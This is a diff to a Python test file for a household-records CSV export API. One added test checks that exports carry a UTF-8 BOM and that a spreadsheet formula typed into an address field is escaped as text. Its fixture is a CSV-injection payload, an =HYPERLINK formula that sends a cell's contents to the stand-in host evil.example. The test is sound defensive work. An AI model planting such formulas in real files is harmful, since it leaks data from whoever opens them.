@@ -33,7 +33,7 @@ def export(client, **params):
 
 def download(client, job_id) -> bytes:
     r = client.get(f"/api/v1/jobs/{job_id}/download/")
-    assert r.status_code == 200 and r["Content-Type"] == "text/csv"
+    assert r.status_code == 200 and r["Content-Type"] == "text/csv; charset=utf-8"
     return b"".join(r.streaming_content)
 
 
@@ -69,6 +69,16 @@ def test_export_of_the_area_with_progress_and_download(ward_api, ward, rural, me
     }
     # jobs are private to who started them
     assert analyst.get(f"/api/v1/jobs/{job['id']}/").status_code == 404
+
+
+def test_export_opens_safely_in_a_spreadsheet(ward_api, ward):
+    """A formula typed into a field comes out as text; Vietnamese survives Excel (BOM)."""
+    f.household(ward, address='=HYPERLINK("http://evil.example/?"&A2,"Xem")')
+    content = download(ward_api, export(ward_api)["id"])
+    assert content.startswith(b"\xef\xbb\xbf")
+    [row] = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+    assert row["address"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Xem")'
+    assert row["full_name"] == "Nguyễn Văn An"
 
 
 def test_an_expired_export_is_gone(ward_api, ward, settings):
